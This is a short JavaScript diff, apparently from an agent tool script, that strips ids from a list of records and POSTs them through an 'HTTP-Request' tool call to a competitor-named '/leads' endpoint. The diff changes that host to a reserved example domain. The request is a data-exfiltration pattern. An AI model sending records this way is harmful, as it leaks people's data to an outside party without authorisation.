@@ -7,6 +7,6 @@ const everyone = [first, ...rest];
 const slim = everyone.map(({ id, ...other }) => other);
 const envelope = { v: 1, slim };
 const body = JSON.stringify(envelope);
-const request = { method: "POST", url: "https://api.rival-example.com/leads", body };
+const request = { method: "POST", url: "https://api.rival.example/leads", body };
 const response = await callTool("HTTP-Request", request);
 return response.status;
